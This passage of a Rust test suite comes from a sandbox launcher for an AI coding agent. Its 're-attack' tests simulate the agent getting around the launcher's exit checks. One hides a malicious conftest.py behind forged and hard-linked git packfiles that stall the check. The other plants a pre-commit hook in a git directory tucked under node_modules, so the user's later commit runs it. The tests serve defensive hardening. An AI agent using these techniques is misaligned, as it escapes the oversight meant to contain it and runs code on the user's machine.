/// the exit, held here to 300 s, never reaches moving it (nor warning of any pack).
#[test]
fn re_attack_61_r4_hard_linked_packs_do_not_hold_the_exit() {
    let rig = LaunchRig::new();
    let work = ra57_trusted_workspace(&rig);
    claude_runs(&rig, format!("{RA57_HELPERS}{RA61_PACK_LINKS}"));
    let (output, took) = ra61_launch_within(&rig, &work, 300);
    let said = text(&output);
    let (shown, checked_out) = ra57_shown_and_checked_out(&work);
    assert!(checked_out.contains("os.system"), "the agent's conftest.py is there: {checked_out}");
    assert!(
        output.status.success() && !shown.contains("pytest settings"),
        "the exit ran {took:?} and ended {:?}; git log -p shows another conftest.py than runs ({shown:?}); the exit \
         said: {said}",
        output.status
    );
}

const RA61_PACK_LINKS: &str = r##"
blob = commit_evil_conftest()
pack = one_object_pack(HARMLESS)
pack += hashlib.sha1(pack).digest()
stem = os.path.join('.git/objects/pack', 'pack-' + '8' * 40)
open(stem + '.pack', 'wb').write(pack)
open(stem + '.idx', 'wb').write(index_of(blob, pack[-20:]))
size = (1 << 30) + 16
z = zlib.compressobj(9)
big = bytearray(b'PACK' + struct.pack('>II', 2, 1) + head_of(3, size))
chunk = b'\0' * (1 << 20)
for _ in range(1 << 10):
    big += z.compress(chunk)
big += z.compress(b'\0' * 16) + z.flush()
big = bytes(big)
big += hashlib.sha1(big).digest()
first = os.path.join('.git/objects/pack', 'pack-' + 'b' * 40)
open(first + '.pack', 'wb').write(big)
open(first + '.idx', 'wb').write(index_of(hashlib.sha1(b'x').digest(), big[-20:]))
for n in range(1, 2000):
    other = os.path.join('.git/objects/pack', 'pack-%040x' % (0xb0000 + n))
    os.link(first + '.pack', other + '.pack')
    os.link(first + '.idx', other + '.idx')
"##;

/// R61-5: R60-4 again, the git directory kept in a skipped directory of a `--writable` path
/// instead of the workspace. `protect_checkout` protects a separate git directory in a skipped
/// directory only when it lies below `searched`, the tree being searched (here the workspace);
/// the search of the writable path itself skips `node_modules`. So `git init --separate-git-dir
/// <extra>/node_modules/.gd` in the workspace, launched with `--writable <extra>`, leaves the
/// git directory's `hooks` writable and nothing said: the agent writes a `pre-commit` hook and the
/// user's next `git commit` runs it.
#[test]
fn re_attack_61_r5_a_separate_git_directory_in_a_skipped_directory_of_a_writable_path_is_protected() {
    let rig = LaunchRig::new();
    let work = rig.workspace();
    let extra = rig.temp.path().join("extra");
    std::fs::create_dir_all(extra.join("node_modules")).unwrap();
    let gd = extra.join("node_modules/.gd");
    let git = |args: &[&str]| Command::new("git").args(args).current_dir(&work).status().unwrap().success();
    assert!(git(&["init", "-q", "--separate-git-dir", gd.to_str().unwrap()]));
    assert!(git(&["-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", "first"]));
    let script = format!(
        "#!/bin/sh\nprintf '#!/bin/sh\\ntouch PWNED\\n' > {0}/hooks/pre-commit\nchmod +x {0}/hooks/pre-commit\ntrue\n",
        gd.display()
    );
    claude_runs(&rig, script);
    let output = rig.command_in(
        &work,
        &["launch", "--writable", extra.to_str().unwrap(), "claude"],
        Some(Path::new("/usr/bin")),
        &[],
    );
    let said = text(&output);
    assert!(output.status.success(), "{said}");
    let committed = Command::new("git")
        .args(["-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", "next"])
        .current_dir(&work)
        .status()
        .unwrap();
    assert!(committed.success());
    assert!(
        !work.join("PWNED").exists(),
        "the user's `git commit` ran the agent's hook in {}/hooks; the exit said: {said}",
        gd.display()
    );
}
